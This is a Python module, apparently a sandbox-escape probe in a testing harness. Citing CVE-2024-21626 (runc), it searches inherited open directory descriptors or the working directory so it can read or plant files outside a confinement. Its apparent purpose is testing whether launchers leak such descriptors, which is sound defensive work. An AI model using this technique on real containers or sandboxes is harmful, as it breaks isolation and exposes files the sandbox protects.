"""Reach a file through an open directory of the launcher's caller, or through its working directory.

The number of the descriptor is not told, only the path from that directory on. A directory that was
opened for its path alone (O_PATH) serves as well, and ".." leads on from it.
Source: CVE-2024-21626 (runc); firejail RELNOTES (private-cwd); openat(2).
"""

import os
import stat

import syscalls


def reached(target, directory):
    """The file's content from there, or that the token was left in a new one."""
    if target.act == "read":
        file = os.open(target.name, os.O_RDONLY, dir_fd=directory)
        return os.read(file, 4096)
    file = os.open(target.name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666, dir_fd=directory)
    os.write(file, target.token.encode())
    return "left"


def attempt(target):
    """Try every open directory from 3 to 8191; a refusal other than 'not there' counts."""
    if target.way == "cwd":
        target.step("open")
        try:
            return reached(target, None)
        except FileNotFoundError:
            return target.absent("the working directory, %s" % os.getcwd())
    target.step("look")
    directories = [number for number, is_ in syscalls.inherited() if stat.S_ISDIR(is_.st_mode)]
    refusal = None
    target.step("open")
    for directory in directories:
        try:
            os.close(os.open(target.mark, os.O_RDONLY, dir_fd=directory))
            return reached(target, directory)
        except FileNotFoundError:
            continue
        except OSError as error:
            refusal = error
    if refusal:
        raise refusal
    return target.absent("descriptors 3 to 8191: %d directories, the caller's is none" % len(directories))
